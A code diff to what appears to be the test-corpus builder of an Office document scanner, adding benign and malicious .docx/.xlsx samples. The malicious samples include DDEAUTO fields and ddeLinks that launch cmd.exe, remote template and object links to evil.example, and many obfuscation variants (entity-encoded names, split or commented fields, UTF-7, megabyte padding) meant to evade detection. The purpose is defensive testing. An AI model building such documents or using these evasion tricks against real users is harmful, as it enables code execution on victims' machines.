@@ -372,12 +372,18 @@ def related(content, kind, target, part="word/_rels/document.xml.rels"):
     return replaced(content, part, b"</Relationships>", relation.encode())
 
 
+def fields(*runs):
+    return b"<w:p>" + "".join(f"<w:r>{run}</w:r>" for run in runs).encode() + b"</w:p>"
+
+
 def packages(corpus):
     bad, word, sheet = corpus.bad, written(), table()
     corpus.good("plain.docx", word)
     corpus.good("plain.xlsx", sheet)
     corpus.good("stored.docx", package(parts_of(word), zipfile.ZIP_STORED))
     corpus.good("diagram.docx", with_part(word, **{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": sheet}))
+    corpus.good("fields.docx", replaced(word, "word/document.xml", b"<w:body>", b"<w:body>" + fields(
+        "<w:instrText> PAGE </w:instrText>", "<w:t>DDE - AUTO</w:t>", "<w:instrText> REF DDE </w:instrText>")))
 
     bad("package-with-macros", "project.docx", with_part(word, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), ACTIVE)
     bad("package-with-macros", "project.xlsx", with_part(sheet, **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), ACTIVE)
@@ -397,10 +403,45 @@ def packages(corpus):
         related(package(settings), "attachedTemplate", "file://evil/share/a.dotm", "word/_rels/settings.xml.rels"), ACTIVE)
     for kind in ("oleObject", "frame", "subDocument", "image"):
         bad("package-with-content-from-elsewhere", f"{kind}.docx", related(word, kind, "http://evil.example/a"), ACTIVE)
+    relations = "word/_rels/settings.xml.rels"
+    for name, kind, mode in [("letter", "attached&#84;emplate", "External"), ("mode", "attachedTemplate", "Extern&#97;l"),
+                             ("zeros", "attached&#x00000000054;emplate", "&#x45;xternal"), ("space", "attachedTemplate ", "External")]:
+        bad("package-with-a-hidden-template-from-elsewhere", f"{name}.docx", replaced(
+            related(package(settings), kind, "http://evil.example/a.dotm", relations),
+            relations, b'TargetMode="External"', f'TargetMode="{mode}"'.encode()), ACTIVE)
+    apart = {name: part for name, part in settings.items() if name != relations}
+    template = parts_of(related(package(settings), "attachedTemplate", "http://evil.example/a.dotm", relations))[relations]
+    bad("package-with-a-hidden-template-from-elsewhere", "large.docx",
+        package({**apart, "word/_rels/Settings.xml.RELS": template}), ACTIVE)
+    bad("package-with-a-hidden-template-from-elsewhere", "utf7.docx", package(
+        {**apart, relations: template.replace(b'?xml version="1.0"?', b'?xml version="1.0" encoding="UTF-7"?')}), DAMAGED)
+    padding = b"<!--" + b" " * 1_100_000 + b"-->"
+    bad("package-with-relations-behind-a-padding", "relations.docx", replaced(
+        related(package(settings), "attachedTemplate", "http://evil.example/a.dotm", relations),
+        relations, b"<Relationship ", padding + b"<Relationship "), EXCESSIVE)
+    bad("package-with-relations-behind-a-padding", "types.docx",
+        replaced(word, "[Content_Types].xml", b"<Default ", padding + b"<Default "), EXCESSIVE)
+
+    for ending in ("rtf", "mht", "mhtml", "htm", "HTML", "docm", "dotm"):
+        bad("package-with-a-document-for-a-piece", f"{ending}.docx", with_part(word, **{f"word/piece.{ending}": b"x"}), INSIDE)
+    piece = (b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" '
+             b'Target="piece.dat"/></Relationships>')
+    bad("package-with-a-document-for-a-piece", "dat.docx", replaced(
+        with_part(word, **{"word/piece.dat": b"{\\rtf1}"}), "word/_rels/document.xml.rels", b"</Relationships>", piece), INSIDE)
     field = b'<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
     bad("package-with-dynamic-data", "auto.docx", replaced(word, "word/document.xml", b"<w:body>", b"<w:body>" + field), ACTIVE)
     bad("package-with-dynamic-data", "plain.docx",
         replaced(word, "word/document.xml", b"<w:body>", b"<w:body>" + field.replace(b"DDEAUTO", b"DDE")), ACTIVE)
+    for name, runs in [
+        ("letter", ["<w:instrText> DDE&#65;UTO cmd</w:instrText>"]),
+        ("letters", ["<w:instrText> &#x0000044;&#68;&#x45; cmd</w:instrText>"]),
+        ("small", ["<w:instrText> ddeauto cmd</w:instrText>"]),
+        ("pieces", ["<w:instrText> DD</w:instrText>", "<w:t>x</w:t>", "<w:instrText xml:space='preserve'>EAUTO cmd</w:instrText>"]),
+        ("comments", ["<w:instrText>D<!-- '> -->DE</w:instrText>", "<w:instrText><![CDATA[AUTO cmd]]></w:instrText>"]),
+        ("simple", ["</w:r><w:fldSimple w:instr=' DD&#69;AUTO cmd'><w:r/></w:fldSimple><w:r>"]),
+    ]:
+        bad("package-with-hidden-dynamic-data", f"{name}.docx",
+            replaced(word, "word/document.xml", b"<w:body>", b"<w:body>" + fields(*runs)), ACTIVE)
     link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
     bad("package-with-dynamic-data", "link.xlsx", with_part(sheet, **{"xl/externalLinks/externalLink1.xml": link}), ACTIVE)
 
